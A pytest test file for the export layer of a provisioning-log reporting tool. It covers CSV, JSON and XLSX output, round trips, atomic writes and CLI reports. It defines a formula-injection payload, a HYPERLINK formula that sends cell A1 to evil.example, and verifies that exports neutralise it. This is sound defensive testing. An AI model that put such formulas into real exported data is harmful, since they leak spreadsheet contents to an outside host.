"""Exports: CSV/JSON/XLSX conventions, formula neutralisation, round trips, atomic files, CLI."""

from __future__ import annotations

import io
import json
import re
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from ingest.errors import UsageError
from ingest.schema import TABLES
from provlens.cli import main
from reports import REPORTS, run_report
from reports.export import (
    csv_bytes,
    flat_events,
    json_bytes,
    neutralise,
    read_csv,
    render,
    write_atomic,
    xlsx_bytes,
)
from tests.support.frames import events, world

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
ISO_Z = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$")
ROW_REPORTS = ("cycles", "users", "failures", "skips", "coverage", "quarantine-risk")


def _evil_world():
    w = world()
    ev = w.events.copy()
    ev.loc[ev["id"] == "e8", "source_name"] = EVIL
    ev.loc[ev["id"] == "e9", "source_name"] = "+1 call me"
    ev.loc[ev["id"] == "e5", "source_name"] = "@SUM(1)"
    w.events = ev
    return w


def test_neutralise_prefixes_every_trigger_and_leaves_numbers_alone():
    frame = pd.DataFrame(
        {
            "text": pd.Series(["=1+1", "+x", "-y", "@z", "\tt", "\rr", "ok", None], dtype="str"),
            "number": [-1, 2, 3, 4, 5, 6, 7, 8],
        }
    )
    out = neutralise(frame)
    assert out["text"].tolist()[:7] == ["'=1+1", "'+x", "'-y", "'@z", "'\tt", "'\rr", "ok"]
    assert pd.isna(out["text"].iloc[7])
    assert out["number"].tolist() == [-1, 2, 3, 4, 5, 6, 7, 8]
    assert frame["text"].iloc[0] == "=1+1"  # input untouched


@pytest.mark.parametrize("name", ROW_REPORTS)
def test_csv_round_trip_of_every_rows_report(name):
    frame = run_report(name, _evil_world()).frame
    back = read_csv(io.BytesIO(render(name, run_report(name, _evil_world()), "csv")), like=frame)
    pd.testing.assert_frame_equal(back, frame.reset_index(drop=True))


def test_injected_display_name_is_inert_in_csv_and_xlsx(tmp_path):
    result = run_report("users", _evil_world(), include_noise=True)
    text = render("users", result, "csv").decode("utf-8")
    assert "'=HYPERLINK(" in text and ",=HYPERLINK(" not in text
    assert ",'+1 call me," in text and ",'@SUM(1)," in text
    # numbers are not quoted
    assert re.search(r",1,1,", text)
    path = write_atomic(tmp_path / "users.xlsx", render("users", result, "xlsx"))
    sheet = openpyxl.load_workbook(path)["users"]
    names = {c.value: c for c in sheet["B"][1:] if c.value}
    cell = names["'" + EVIL]
    assert cell.data_type == "s"  # a string, never a formula
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
    header = [c.value for c in sheet[1]]
    assert header == list(result.frame.columns)
    events_col = header.index("events")
    assert all(isinstance(row[events_col].value, int) for row in sheet.iter_rows(min_row=2))


def test_json_conventions_iso_z_null_booleans():
    rows = json.loads(render("coverage", run_report("coverage", world()), "json"))
    assert isinstance(rows, list) and len(rows) == 11
    u1 = next(r for r in rows if r["principal_id"] == "u1")
    assert u1["last_at"] == "2026-11-20T01:10:00.000Z"
    assert u1["in_scope"] is True
    orphan = next(r for r in rows if r["verdict"] == "orphaned")
    assert orphan["principal_id"] is None and orphan["last_at"] is None
    cycles = json.loads(render("cycles", run_report("cycles", world()), "json"))
    assert cycles[0]["gap_before_s"] is None and cycles[2]["gap_before_s"] == 2400.0
    assert all(ISO_Z.match(c["started_at"]) for c in cycles)
    assert cycles[0]["events"] == 3


def test_json_keeps_milliseconds_and_turns_nan_into_null():
    frame = pd.DataFrame(
        {
            "at": pd.Series([pd.Timestamp("2026-11-20T10:15:03.123456Z"), pd.NaT]).astype(
                "datetime64[us, UTC]"
            ),
            "x": [float("nan"), 1.5],
            "n": pd.Series([None, 2], dtype="Int64"),
            "b": pd.Series([True, None], dtype="boolean"),
        }
    )
    assert json.loads(json_bytes(frame)) == [
        {"at": "2026-11-20T10:15:03.123Z", "x": None, "n": None, "b": True},
        {"at": None, "x": 1.5, "n": 2, "b": None},
    ]


# JSON shapes: DESIGN "Report NAMEs and their JSON shape" (extra keys allowed).
DESIGN_KEYS = {
    "cycles": [
        "cycle_id",
        "job_id",
        "started_at",
        "ended_at",
        "duration_s",
        "kind",
        "events",
        "changes",
        "objects",
        "success",
        "failure",
        "skipped",
        "warning",
        "objects_per_min",
        "gap_before_s",
    ],
    "failures": [
        "error_code",
        "error_category",
        "events",
        "objects",
        "first_seen",
        "last_seen",
        "sample_reason",
        "recommended_action",
        "owner",
    ],
    "users": [
        "source_id",
        "source_name",
        "source_upn",
        "source_type",
        "target_id",
        "last_at",
        "last_action",
        "last_status",
        "last_error_code",
        "events",
        "failures",
        "first_success_at",
        "last_success_at",
    ],
    "coverage": [
        "principal_id",
        "upn",
        "name",
        "in_scope",
        "scope_via",
        "wiki_state",
        "last_status",
        "verdict",
    ],
    "skips": ["skip_reason", "events", "objects", "first_seen", "last_seen", "noise"],
}


@pytest.mark.parametrize("name", sorted(DESIGN_KEYS))
def test_rows_reports_start_with_exactly_the_design_keys(name):
    rows = json.loads(
        render(name, run_report(name, world(), include_noise=True), "json", REPORTS[name].shape)
    )
    assert rows, name
    for row in rows:
        assert list(row)[: len(DESIGN_KEYS[name])] == DESIGN_KEYS[name]


def test_summary_and_estimate_are_objects_with_the_design_keys():
    summary = json.loads(render("summary", run_report("summary", world()), "json", "object"))
    assert list(summary) == [
        "events",
        "distinct_ids",
        "cycles",
        "changes",
        "source_objects",
        "first_at",
        "last_at",
        "success_rate",
        "by_action_status",
        "failures_by_error_code",
        "by_envelope_result_type",
    ]
    assert summary["first_at"] == "2026-11-19T23:50:00.000Z"
    estimate = json.loads(
        render("estimate", run_report("estimate", world(), min_events=2), "json", "object")
    )
    assert set(estimate) >= {
        "objects_in_scope",
        "docs_min_minutes",
        "docs_max_minutes",
        "observed_objects_per_min",
        "cycles_observed",
        "estimate_minutes_p50",
        "estimate_minutes_p90",
        "current_cycle",
        "next_incremental_at",
    }
    # now defaults to the last event (01:10): c2 may still be running
    assert set(estimate["current_cycle"]) >= {
        "cycle_id",
        "started_at",
        "processed",
        "remaining",
        "eta",
    }
    assert estimate["next_incremental_at"] == "2026-11-20T01:50:00.000Z"


def test_quarantine_risk_rows_are_per_job():
    rows = json.loads(render("quarantine-risk", run_report("quarantine-risk", world()), "json"))
    assert [r["job_id"] for r in rows] == ["scim.j1", "scim.j2"]
    assert {"failures", "failure_rate", "risk", "quarantine_next_attempt"} <= set(rows[0])


def test_object_reports_as_csv_and_xlsx_are_key_value_tables():
    text = render("summary", run_report("summary", world()), "csv", "object").decode()
    lines = text.splitlines()
    assert lines[0] == "key,value"
    assert "by_action_status.create.failure,2" in lines
    assert "first_at,2026-11-19T23:50:00.000Z" in lines
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes({"a": pd.DataFrame({"k": [1]})})))
    assert book.sheetnames == ["a"]


def test_xlsx_writes_one_sheet_per_table_with_utc_times():
    result = run_report("coverage", world())
    book = openpyxl.load_workbook(io.BytesIO(render("coverage", result, "xlsx")))
    assert book.sheetnames == ["coverage", "coverage info"]
    sheet = book["coverage"]
    header = [c.value for c in sheet[1]]
    last_at = header.index("last_at")
    values = [row[last_at].value for row in sheet.iter_rows(min_row=2)]
    assert str(values[0]) == "2026-11-20 01:00:00"


def test_write_atomic_creates_parents_refuses_directories_and_leaves_no_temp(tmp_path):
    target = tmp_path / "a" / "b" / "out.csv"
    write_atomic(target, b"x\n")
    assert target.read_bytes() == b"x\n"
    write_atomic(target, b"y\n")
    assert target.read_bytes() == b"y\n"
    assert [p.name for p in target.parent.iterdir()] == ["out.csv"]
    with pytest.raises(UsageError, match="is a directory"):
        write_atomic(tmp_path / "a", b"z")
    with pytest.raises(UsageError, match="is a directory"):
        write_atomic(str(tmp_path / "new") + "/", b"z")
    (tmp_path / "file").write_text("")
    with pytest.raises(UsageError, match="not a directory"):
        write_atomic(tmp_path / "file" / "x.csv", b"z")


def test_flat_events_carries_steps_and_modified_properties():
    flat = flat_events(world())
    assert len(flat) == 10
    assert list(flat.columns) == [*TABLES["events"].names, "steps", "modified_properties"]
    row = flat.set_index("id").loc["e2"]
    assert row["steps"] == "0. EntryImportAdd [success]\n1. EntryExportAdd [failure]: 409 Conflict"
    assert flat.set_index("id").loc["e10", "modified_properties"] == "displayName: Ada → Ada L"


def test_csv_is_utf8_and_keeps_non_ascii():
    frame = events([{"activity_at": "2026-11-20T00:00:00Z", "source_name": "Zoë Ørsted"}])
    assert "Zoë Ørsted".encode() in csv_bytes(frame)


# --- through the CLI and a real store --------------------------------------------------------


@pytest.fixture
def store_path(tmp_path) -> Path:
    from ingest.store import Store

    w = _evil_world()
    store = Store(tmp_path / "store")
    with store.batch(source="file", detail="test") as batch:
        batch.add({name: getattr(w, name) for name in TABLES})
    return tmp_path / "store"


def _stored_inputs(path: Path):
    from ingest.store import Store
    from reports import Inputs

    store = Store(path)
    return Inputs.from_tables({name: store.read(name) for name in TABLES})


def test_cli_report_csv_reads_back_to_the_same_frame(store_path, tmp_path):
    out = tmp_path / "out" / "users.csv"
    code = main(
        ["--store", str(store_path), "report", "users", "--format", "csv", "--out", str(out)]
    )
    assert code == 0
    expected = run_report("users", _stored_inputs(store_path)).frame
    pd.testing.assert_frame_equal(read_csv(out, like=expected), expected)
    assert "'=HYPERLINK(" in out.read_text(encoding="utf-8")


def test_cli_report_json_and_table_say_what_noise_was_hidden(store_path, capsys):
    assert main(["--store", str(store_path), "report", "skips", "--format", "json"]) == 0
    rows = json.loads(capsys.readouterr().out)
    assert [r["skip_reason"] for r in rows] == ["ExportSkipped"]
    assert main(["--store", str(store_path), "report", "users"]) == 0
    out = capsys.readouterr().out
    assert "(2 noise rows hidden" in out and "u10" in out
    assert main(["--store", str(store_path), "report", "users", "--include-noise"]) == 0
    assert "noise rows hidden" not in capsys.readouterr().out


def test_cli_report_filters_user_and_usage_errors(store_path, capsys, tmp_path):
    assert (
        main(
            [
                "--store",
                str(store_path),
                "--now",
                "2026-11-20T03:00:00Z",
                "report",
                "estimate",
                "--format",
                "json",
                "--user",
                "u9",
            ]
        )
        == 0
    )
    data = json.loads(capsys.readouterr().out)
    assert data["when_user"]["verdict"] == "failed"
    assert data["when_user"]["expected_by"] is None  # a missing value needs a fix, not a wait
    # 01:50 had passed at --now 03:00: the schedule's next run, never a time in the past
    assert data["next_incremental_at"] == "2026-11-20T03:10:00.000Z"
    assert (
        main(
            [
                "--store",
                str(store_path),
                "report",
                "cycles",
                "--format",
                "json",
                "--job-id",
                "scim.j2",
            ]
        )
        == 0
    )
    assert [r["cycle_id"] for r in json.loads(capsys.readouterr().out)] == ["d1"]
    assert main(["--store", str(store_path), "report", "summary", "--format", "xlsx"]) == 2
    assert "--out" in capsys.readouterr().err
    assert main(["--store", str(store_path), "report", "cycles", "--user", "x"]) == 2
    assert main(["--store", str(store_path), "report", "timeline"]) == 2
    assert main(["--store", str(store_path), "report", "users", "--out", str(tmp_path)]) == 2
    assert "is a directory" in capsys.readouterr().err


def test_cli_export_tables(store_path, tmp_path, capsys):
    assert main(["--store", str(store_path), "export", "scim_resources", "--format", "json"]) == 0
    latest = json.loads(capsys.readouterr().out)
    assert sorted(r["id"] for r in latest) == ["w1", "w2", "w4", "w7", "w8", "w9"]
    assert (
        main(
            [
                "--store",
                str(store_path),
                "export",
                "events",
                "--format",
                "json",
                "--job-id",
                "scim.j2",
            ]
        )
        == 0
    )
    assert [r["id"] for r in json.loads(capsys.readouterr().out)] == ["e4", "e5"]
    out = tmp_path / "steps.parquet"
    assert (
        main(
            [
                "--store",
                str(store_path),
                "export",
                "steps",
                "--format",
                "parquet",
                "--out",
                str(out),
                "--since",
                "2026-11-20T00:00:00Z",
            ]
        )
        == 0
    )
    assert pd.read_parquet(out)["event_id"].tolist() == ["e2", "e2"]
    assert main(["--store", str(store_path), "export", "events_flat", "--format", "csv"]) == 0
    assert "EntryExportAdd [failure]" in capsys.readouterr().out


def test_support_pack_has_ids_verdict_fix_steps_and_wiki_requests():
    from reports.export import support_pack

    pack = support_pack(world(), "bo@contoso.example", now=pd.Timestamp("2026-11-20T03:00:00Z"))
    assert list(pack) == ["user", "events", "steps", "modified_properties", "wiki_requests"]
    user = dict(zip(pack["user"]["key"], pack["user"]["value"]))
    assert user["principal_id"] == "u2" and user["verdict"] == "provisioned"
    assert user["target_ids"] == "w2" and user["events"] == 2
    assert user["last_error_code"] == "TheOrgWikiEntryConflict"
    assert user["fix_owner"] == "data_owner"
    assert user["recommended_fix"].startswith("Correct the conflicting attribute values")
    assert pack["events"]["id"].tolist() == ["e2", "e6"]
    assert pack["steps"]["name"].tolist() == ["EntryImportAdd", "EntryExportAdd"]
    assert pack["wiki_requests"]["request_id"].tolist() == ["r1"]


def test_cli_support_pack_xlsx_and_zip(store_path, tmp_path):
    import zipfile

    xlsx = tmp_path / "pack.xlsx"
    args = ["--store", str(store_path), "report", "timeline", "--user", "u2"]
    assert main([*args, "--format", "xlsx", "--out", str(xlsx)]) == 0
    book = openpyxl.load_workbook(xlsx)
    assert book.sheetnames == ["user", "events", "steps", "modified_properties", "wiki_requests"]
    pack = tmp_path / "pack.zip"
    assert main([*args, "--out", str(pack)]) == 0
    names = zipfile.ZipFile(pack).namelist()
    assert "wiki_requests.csv" in names and "user.json" in names
    assert (
        main(
            [
                "--store",
                str(store_path),
                "report",
                "timeline",
                "--user",
                "nobody",
                "--format",
                "xlsx",
                "--out",
                str(xlsx),
            ]
        )
        == 2
    )


def test_json_rows_written_by_duckdb_are_the_per_row_bytes(tmp_path):
    import numpy as np
    import orjson

    from reports.export import _json_line_chunks, records, write_json_rows

    times = [
        "2026-11-20T01:02:03.456789Z",
        None,
        "1969-12-31T23:59:59.9999Z",
        "2026-01-01T23:59:59.9Z",
    ]
    frame = pd.DataFrame(
        {
            "s": pd.array(
                ['a"b', "é\u2028x\x7f", "\x01\n\t/", None, "</script>", "\\", "𝄞", "ü"],
                dtype="str",
            ),
            "o": ["x", None, "y", "z", "", "q", "w", "e"],
            "i": pd.array([1, None, 3, 4, 5, -6, 2**53 + 1, 0], dtype="Int64"),
            "n": np.arange(8),
            "b": [True, False] * 4,
            "nb": pd.array([True, None, False, True, True, False, True, False], dtype="boolean"),
            "f": [0.1, 1e-7, np.nan, np.inf, -0.0, 1 / 3, 123456789.123, 2.0],
            "t": pd.to_datetime(times * 2, utc=True, format="ISO8601"),
            "l": [["a", "b"], [], None, ["c"], ["d"], ["e"], ["f"], ["g"]],
            "li": [[1, None, 3], [], [200], [404], [], [1], [2], [3]],
        }
    )
    per_row = b",\n".join(orjson.dumps(r) for r in records(frame))
    # In batches (here of 3 rows), their pieces end to end: the same bytes.
    chunks = _json_line_chunks(frame, rows=3)
    assert chunks is not None
    pieces = [bytes(c) for c in chunks]
    assert len(pieces) == 3 and b"".join(pieces) == per_row
    assert json_bytes(frame) == b"[\n" + per_row + b"\n]\n"
    assert write_json_rows(frame, tmp_path / "rows.json")
    assert (tmp_path / "rows.json").read_bytes() == json_bytes(frame)
    # Doubles DuckDB writes differently (1e20 in full) take the per-row way: same bytes.
    big = pd.DataFrame({"f": [1e20, 1.0]})
    assert _json_line_chunks(big) is None
    assert not write_json_rows(big, tmp_path / "big.json")
    assert json_bytes(big) == b'[\n{"f":1e+20},\n{"f":1.0}\n]\n'


def test_write_atomic_writes_into_a_pipe_and_leaves_it_a_pipe(tmp_path):
    """`--out /dev/null` or a pipe: written in place, never replaced by a regular file."""
    import os
    import stat
    import threading

    fifo = tmp_path / "out.fifo"
    os.mkfifo(fifo)
    got: list[bytes] = []
    reader = threading.Thread(target=lambda: got.append(fifo.read_bytes()), daemon=True)
    reader.start()
    write_atomic(fifo, b"[1, 2]\n")
    reader.join(timeout=5)
    assert stat.S_ISFIFO(os.stat(fifo).st_mode)
    assert got == [b"[1, 2]\n"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.fifo"]


def test_kept_json_text_is_the_formatted_rows_under_any_condition(tmp_path, monkeypatch):
    """keep_json_text writes each row's JSON beside a kept file; the writer reads it back for
    the rows a condition keeps: the bytes of the rows' frame, every kind of value."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    from reports import export
    from reports.export import _json_line_chunks, keep_json_text, write_json_rows
    from reports.sql import StoredRows

    frame = pd.DataFrame(
        {
            "s": pd.array(
                ['a"b', "é\u2028x\x7f", "\x01\n\t/\x1f", None, "=1+2", "+x", "-3", "@a", "\\", "𝄞"],
                dtype="str",
            ),
            "i": pd.array([1, None, 3, 4, 5, -6, 2**53 + 1, 0, 9, 10], dtype="Int64"),
            "b": pd.array([True, None, False] * 3 + [True], dtype="boolean"),
            "t": pd.to_datetime(
                ["2026-11-20T01:02:03.456789Z", None, "1969-12-31T23:59:59.9999Z", None] * 2
                + ["2026-01-01T00:00:00Z", "2026-01-01T23:59:59.9Z"],
                utc=True,
                format="ISO8601",
            ).astype("datetime64[us, UTC]"),
            "l": [["a", 'b"'], [], None, ["c"], ["d"], ["e"], ["f"], ["g"], [], None],
            "li": [[1, None, 3], [], [200], [404], [], [1], [2], [3], None, [7]],
            "keep": [True, False, True, True, None, True, False, True, True, True],
        }
    )
    path = tmp_path / "rows.parquet"
    pq.write_table(pa.Table.from_pandas(frame, preserve_index=False), path)
    columns = ("s", "i", "b", "t", "l", "li")
    every = StoredRows(str(path), columns)
    assert keep_json_text(every)
    assert Path(every.text_path()).exists()
    for where, rows in (("TRUE", frame), ("keep", frame.loc[frame["keep"].fillna(False)])):
        stored = StoredRows(str(path), columns, where)
        assert stored.text_path() == every.text_path()  # one text, whatever the condition
        want = json_bytes(rows[list(columns)].reset_index(drop=True))
        assert write_json_rows(stored, tmp_path / "out.json")
        assert (tmp_path / "out.json").read_bytes() == want, where
        chunks = _json_line_chunks(stored, rows=3)
        assert chunks is not None
        assert b"[\n" + b"".join(bytes(c) for c in chunks) + b"\n]\n" == want, where
    # The text of only the rows a condition keeps (as the model keeps correlation's with noise
    # hidden): read whole, no mask; the same bytes.
    subset = StoredRows(str(path), columns, "keep")
    assert keep_json_text(subset, subset=True)
    assert export.kept_text_source(subset) == (subset.subset_text_path(), None)
    assert write_json_rows(subset, tmp_path / "subset.json")
    shown = frame.loc[frame["keep"].fillna(False), list(columns)].reset_index(drop=True)
    assert (tmp_path / "subset.json").read_bytes() == json_bytes(shown)
    # Other columns have their own text (none kept): formatted, the same bytes.
    fewer = StoredRows(str(path), ("s", "i"), "keep")
    assert fewer.text_path() != every.text_path()
    assert not Path(fewer.text_path()).exists()
    assert write_json_rows(fewer, tmp_path / "fewer.json")
    kept = frame.loc[frame["keep"].fillna(False), ["s", "i"]].reset_index(drop=True)
    assert (tmp_path / "fewer.json").read_bytes() == json_bytes(kept)
    # No row the condition keeps: an empty array, as json_bytes writes it.
    assert write_json_rows(StoredRows(str(path), columns, "FALSE"), tmp_path / "none.json")
    assert (tmp_path / "none.json").read_bytes() == b"[]\n"
    # A file of more rows than KEPT_TEXT_MAX_ROWS keeps no text (its rows are formatted).
    monkeypatch.setattr(export, "KEPT_TEXT_MAX_ROWS", 9)
    assert not keep_json_text(fewer)
    assert not Path(fewer.text_path()).exists()
    # Floats are not kept as text (their largest value decides how they are written).
    floats = tmp_path / "floats.parquet"
    pq.write_table(pa.table({"f": [0.5, 1e20]}), floats)
    assert not keep_json_text(StoredRows(str(floats), ("f",)))
